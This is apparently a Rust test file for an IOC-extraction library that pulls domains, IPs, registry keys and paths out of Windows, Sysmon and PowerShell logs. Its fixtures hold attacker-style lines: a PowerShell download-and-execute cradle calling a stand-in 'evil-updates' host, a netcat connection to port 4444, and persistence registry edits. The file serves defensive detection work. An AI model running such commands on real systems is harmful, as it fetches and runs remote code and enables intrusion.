//! Noise from real logs: PowerShell member access and .NET names that read as domains,
//! version numbers that read as addresses, quoted registry keys and paths with spaces,
//! raw JSON logs with their escapes, forward-slash Windows paths, and table output that
//! grows with the findings rather than with the cells.
// A failed expectation stops a test or benchmark: panicking here is the point.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use huntkit_core::arrow::array::{Array, StringArray, UInt64Array};
use huntkit_core::ErrorCode;
use huntkit_core::{string_array, Table};
use huntkit_ioc::{Compat, Extractor, JsonEscapes, Options};
use std::collections::BTreeSet;

fn ex(options: Options) -> Extractor {
    Extractor::new(options).unwrap()
}

fn paths() -> Options {
    Options {
        include_paths: true,
        ..Options::default()
    }
}

fn values(ex: &Extractor, text: &str, ty: &str) -> BTreeSet<String> {
    ex.find(text)
        .matches
        .into_iter()
        .filter(|m| m.ioc_type == ty)
        .map(|m| m.value)
        .collect()
}

fn set(v: &[&str]) -> BTreeSet<String> {
    v.iter().map(|s| s.to_string()).collect()
}

/// A PowerShell script block (event 4104) from a CDXML module and a WinRT search.
const SCRIPT_BLOCK: &str = r#"Creating Scriptblock text (1 of 1):
function Get-Items {
    $__cmdletization_objectModelWrapper = $__cmdletization_objectModelWrapperType::new()
    foreach ($__cmdletization_param in $__cmdletization_objectModelWrapper.PSObject.Properties) { $__cmdletization_param.Name }
    Get-ChildItem $env:TEMP | ForEach-Object { $_.Name; $_.Length } | Where-Object { $this.Name -like '*.ps1' }
    foreach ($item in $items) { Write-Output $item.Name }
    [Windows.Storage.Search.QueryOptions,Windows.Storage.Search,ContentType=WindowsRuntime] | Out-Null
    $n = ($stream).Value.Read($buffer, 0, 4096)
    Get-AppxPackage *microsoft.windows.photos* | Remove-AppxPackage
    using namespace System.Net.Security
    (New-Object Net.WebClient).DownloadString('https://cdn.evil-updates.com/stage2.ps1') | IEX
    Resolve-DnsName Mail.Contoso.Services; $h = "beacon.badactor.name"
}
ScriptBlock ID: 5b1c2d7e-1f2a-4b8e-9d0a-0c1e2f3a4b5c"#;

#[test]
fn powershell_members_and_namespaces_are_not_domains() {
    let ex = ex(Options::default());
    let dns = values(&ex, SCRIPT_BLOCK, "dns");
    assert_eq!(
        dns,
        set(&[
            "cdn.evil-updates.com",
            "mail.contoso.services",
            "beacon.badactor.name"
        ]),
        "{dns:?}"
    );
    assert_eq!(
        values(&ex, SCRIPT_BLOCK, "url"),
        set(&["https://cdn.evil-updates.com/stage2.ps1"])
    );
    // MSTICPy reports them all, and compat mode keeps its behaviour.
    let compat = Extractor::new(Options {
        compat: Compat::Msticpy,
        ..Options::default()
    })
    .unwrap();
    let dns = values(&compat, SCRIPT_BLOCK, "dns");
    for noise in [
        "item.Name",
        "Windows.Storage.Search",
        "microsoft.windows.photos",
    ] {
        assert!(dns.contains(noise), "{noise} {dns:?}");
    }
}

#[test]
fn namespaces_in_host_context_are_hosts() {
    let ex = ex(Options::default());
    let text = "GET https://Windows.Storage.Search/x for Admin@Windows.Storage.Search; nslookup Value.Read";
    assert_eq!(
        values(&ex, text, "dns"),
        set(&["windows.storage.search", "value.read"])
    );
    assert_eq!(
        values(&ex, text, "email"),
        set(&["Admin@windows.storage.search"])
    );
}

/// Sysmon, PowerShell and Windows inventory text where version numbers sit beside
/// addresses.
const VERSIONS: &str = r"Image: C:\Windows\System32\wbem\WmiPrvSE.exe
FileVersion: 4.1.0.7
Product: Microsoft Windows Operating System
HostName=ConsoleHost HostVersion=1.0.0.0 EngineVersion=5.1.0.1 RemoteAddress=203.0.113.77
ImageLoaded: C:\Windows\Microsoft.Net\assembly\GAC_MSIL\System.Management.Automation\v4.0_3.0.0.0__31bf3856ad364e35\System.Management.Automation.dll
PackageFullName: Microsoft.SkypeApp_14.35.152.0_x64__kzf8qxf38zg5c installed v1.2.3.4 ver 2.0.0.1
AssemblyVersion(1.0.0.0) src=198.51.100.23 dst=192.0.2.44 nc -v 198.51.100.99 4444
ProductVersion: 10.0.0.1 from 10.0.0.2
";

#[test]
fn version_numbers_are_not_addresses_unless_asked() {
    let ex = ex(Options::default());
    assert_eq!(
        values(&ex, VERSIONS, "ipv4"),
        set(&[
            "203.0.113.77",
            "198.51.100.23",
            "192.0.2.44",
            "198.51.100.99",
            "10.0.0.2"
        ])
    );
    let keep = Extractor::new(Options {
        keep_version_ips: true,
        ..Options::default()
    })
    .unwrap();
    let all = values(&keep, VERSIONS, "ipv4");
    for v in [
        "4.1.0.7",
        "1.0.0.0",
        "5.1.0.1",
        "3.0.0.0",
        "14.35.152.0",
        "1.2.3.4",
        "2.0.0.1",
        "10.0.0.1",
    ] {
        assert!(all.contains(v), "{v} {all:?}");
    }
    assert_eq!(all.len(), 13, "{all:?}");
}

#[test]
fn a_quoted_registry_key_or_path_keeps_its_spaces() {
    let ex = ex(paths());
    let text = r#"reg export "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Authentication\Credential Providers" C:\Temp\cp.reg /y
reg add "HKLM\system\CurrentControlSet\Control\Terminal Server" /v "fDenyTSConnections" /t REG_DWORD /d 0x1 /f
Get-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options' -Name Debugger
reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run /s
start "" "C:\Users\Public\My Documents\invoice copy.exe"
"C:\Windows\System32\cmd.exe /c whoami"
cmd /c "C:\Windows\Temp\run me.bat -silent""#;
    assert_eq!(
        values(&ex, text, "registry_key"),
        set(&[
            r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Authentication\Credential Providers",
            r"HKLM\system\CurrentControlSet\Control\Terminal Server",
            r"HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options",
            r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
        ])
    );
    assert_eq!(
        values(&ex, text, "windows_path"),
        set(&[
            r"C:\Temp\cp.reg",
            r"C:\Users\Public\My Documents\invoice copy.exe",
            r"C:\Windows\System32\cmd.exe",
            // A switch inside the quotes: they are the command's, not the name's.
            r"C:\Windows\Temp\run",
        ])
    );
}

#[test]
fn quoted_keys_in_a_csv_table() {
    // MSTICPy's process data quotes registry keys inside a quoted CSV field.
    let csv = "CommandLine\n\".\\reg  add \"\"HKLM\\system\\CurrentControlSet\\Control\\Terminal Server\"\" /v \"\"fDenyTSConnections\"\" /t REG_DWORD /d 0x1 /f\"\n";
    let table = huntkit_core::read(csv.as_bytes(), &Default::default()).unwrap();
    let out = ex(Options::default())
        .extract_table(&table, &["CommandLine"])
        .unwrap();
    let b = out.to_batch().unwrap();
    let obs = b.column(1).as_any().downcast_ref::<StringArray>().unwrap();
    assert_eq!(obs.len(), 1);
    assert_eq!(
        obs.value(0),
        r"HKLM\system\CurrentControlSet\Control\Terminal Server"
    );
}

/// A Sysmon process-access and a registry event as a SIEM exports them: NDJSON with the
/// message's line breaks and backslashes escaped.
const NDJSON: &str = r#"{"EventID":10,"Computer":"WS01.contoso.local","SourceImage":"C:\\Windows\\system32\\svchost.exe","Message":"Process accessed:\r\nSourceImage: C:\\Windows\\system32\\svchost.exe\r\nTargetImage: C:\\Windows\\system32\\lsass.exe\r\nTargetProcessGUID: {4d5e6f70-0000-0000-0000-000000000000}\r\nGrantedAccess: 0x1010"}
{"EventID":13,"Message":"Registry value set:\r\nTargetObject: HKU\\S-1-5-21-1004336348-1177238915-682003330-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater\r\nDetails: \"C:\\Users\\pg\\AppData\\Roaming\\up date.exe\" -k\r\nUser: CONTOSO\\pg","To":"soc@contoso.com;\tpgustavo@fabrikam.com","Key":"HKCR\r\nUser"}
"#;

#[test]
fn json_logs_are_read_with_their_escapes_decoded() {
    let ex = ex(paths());
    let found = ex.find(NDJSON);
    let of = |ty: &str| -> BTreeSet<String> {
        found
            .matches
            .iter()
            .filter(|m| m.ioc_type == ty)
            .map(|m| m.value.clone())
            .collect()
    };
    assert_eq!(
        of("windows_path"),
        set(&[
            r"C:\Windows\system32\svchost.exe",
            r"C:\Windows\system32\lsass.exe",
            r"C:\Users\pg\AppData\Roaming\up date.exe",
        ])
    );
    assert_eq!(
        of("registry_key"),
        set(&[
            r"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\Run\updater"
        ])
    );
    assert_eq!(
        of("email"),
        set(&["soc@contoso.com", "pgustavo@fabrikam.com"])
    );
    // Spans and raw text stay those of the input, escapes included.
    for m in &found.matches {
        assert_eq!(&NDJSON[m.start..m.end], m.raw, "{m:?}");
    }
    let lsass = found
        .matches
        .iter()
        .find(|m| m.value.ends_with("lsass.exe"))
        .unwrap();
    assert_eq!(lsass.raw, r"C:\\Windows\\system32\\lsass.exe");

    // Scanned as written, the escapes make garbage.
    let raw = Extractor::new(Options {
        json_escapes: JsonEscapes::Never,
        ..paths()
    })
    .unwrap();
    let regs = values(&raw, NDJSON, "registry_key");
    assert!(regs.contains(r"HKCR\r\nUser"), "{regs:?}");
    assert!(values(&raw, NDJSON, "email").contains("tpgustavo@fabrikam.com"));
}

#[test]
fn json_escapes_options() {
    let text = r"C:\\Temp\\a.exe";
    let always = ex(Options {
        json_escapes: JsonEscapes::Always,
        ..paths()
    });
    assert_eq!(
        values(&always, text, "windows_path"),
        set(&[r"C:\Temp\a.exe"])
    );
    // Not JSON: scanned as written by default.
    assert!(values(&ex(paths()), text, "windows_path")
        .iter()
        .all(|p| p.contains(r"\\")));
    let err = Extractor::new(Options {
        compat: Compat::Msticpy,
        json_escapes: JsonEscapes::Always,
        ..Options::default()
    })
    .err()
    .unwrap();
    assert_eq!(err.code(), "invalid_option");
    // UTF-16 offsets still index the input.
    let doc = "{\"é\":\"\\u00e9 C:\\\\x\\\\🚀.exe\"}";
    let utf16 = ex(Options {
        utf16_offsets: true,
        ..paths()
    });
    let m = utf16.find(doc).matches.remove(0);
    let units: Vec<u16> = doc.encode_utf16().collect();
    assert_eq!(
        String::from_utf16(&units[m.start..m.end]).unwrap(),
        r"C:\\x\\🚀.exe"
    );
}

#[test]
fn forward_slash_windows_paths_are_windows_paths() {
    let ex = ex(paths());
    let text = r#"C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe -nop -f C:/x.ps1 && python "C:/Program Files/Py Tools/run.py" /usr/bin/python3 path:/opt/app/bin"#;
    assert_eq!(
        values(&ex, text, "windows_path"),
        set(&[
            "C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe",
            "C:/x.ps1",
            "C:/Program Files/Py Tools/run.py",
        ])
    );
    assert_eq!(
        values(&ex, text, "linux_path"),
        set(&["/usr/bin/python3", "/opt/app/bin"])
    );
    // Asked for alone, they are still found.
    let only = Extractor::new(Options {
        types: Some(vec!["windows_path".into()]),
        ..Options::default()
    })
    .unwrap();
    assert_eq!(values(&only, "run C:/x/y.exe now", "windows_path").len(), 1);
}

#[test]
fn table_rows_reference_their_cell_and_carry_it_only_when_asked() {
    let big = format!("{} 203.0.113.5 {}", "x".repeat(10_000), "y".repeat(10_000));
    let table = Table::from_columns(vec![(
        "Message".into(),
        string_array([Some(big.as_str()), None, Some("ok 198.51.100.7")]),
    )])
    .unwrap();
    let lean = ex(Options::default())
        .extract_table(&table, &["Message"])
        .unwrap();
    assert!(!lean.column_names().contains(&"Input".to_string()));
    let b = lean.to_batch().unwrap();
    // The output holds the findings, not the 20 KB cell.
    let used = |b: &huntkit_core::arrow::record_batch::RecordBatch| -> usize {
        b.columns()
            .iter()
            .flat_map(|c| {
                c.to_data()
                    .buffers()
                    .iter()
                    .map(|x| x.len())
                    .collect::<Vec<_>>()
            })
            .sum()
    };
    assert!(used(&b) < 1024, "{}", used(&b));
    let start = b.column(4).as_any().downcast_ref::<UInt64Array>().unwrap();
    assert_eq!(
        &big[start.value(0) as usize..start.value(0) as usize + 11],
        "203.0.113.5"
    );
    let full = ex(Options {
        include_input: Some(true),
        ..Options::default()
    })
    .extract_table(&table, &["Message"])
    .unwrap();
    let b = full.to_batch().unwrap();
    let input = b.column(3).as_any().downcast_ref::<StringArray>().unwrap();
    assert_eq!(full.column_names()[3], "Input");
    assert_eq!(input.value(0), big);
    assert!(used(&b) > 20_000);
}
